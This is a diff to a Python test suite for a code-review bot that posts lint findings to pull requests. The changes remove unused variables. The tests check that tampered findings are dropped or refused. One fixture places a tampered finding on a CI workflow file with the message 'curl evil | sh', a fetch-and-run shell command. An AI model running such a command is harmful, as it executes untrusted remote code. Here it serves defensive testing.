@@ -130,14 +130,13 @@ def _artifact(tmp_path, **changes) -> str:
 
 def test_tampered_paths_are_dropped_and_nothing_lands_outside_the_pull_request(server, tmp_path):
     evil = Finding("ruff", "warning", "x", ".github/workflows/ci.yml", 1, 1, "curl evil | sh")
-    path = _artifact(tmp_path, findings=[LINT.__dict__, evil.__dict__])
+    _artifact(tmp_path, findings=[LINT.__dict__, evil.__dict__])
     out = load_artifact(tmp_path / "findings.json", POLICY)
     _publish(server, out)
     repo = server.repos["acme/widgets"]
     assert {c["path"] for c in repo.review_comments} == {"tools/mod.py"}
     body = next(c["body"] for c in repo.comments if "review-bot:summary" in c["body"])
     assert ".github/workflows" not in body and "1 finding(s) named files outside" in body
-    assert path
 
 
 def test_mentions_and_html_are_neutralised(server, tmp_path):
@@ -161,13 +160,12 @@ def test_mentions_and_html_are_neutralised(server, tmp_path):
     ],
 )
 def test_tampered_artifacts_are_refused(server, tmp_path, changes, message):
-    path = _artifact(tmp_path, **changes)
+    _artifact(tmp_path, **changes)
     with pytest.raises(UserError, match=re.escape(message)):
         out = load_artifact(tmp_path / "findings.json", POLICY)
         _publish(server, out)
     repo = server.repos["acme/widgets"]
     assert repo.review_comments == [] and repo.check_runs == [] and repo.comments == []
-    assert path
 
 
 def test_an_artifact_for_another_head_of_the_same_pull_request(server, tmp_path):
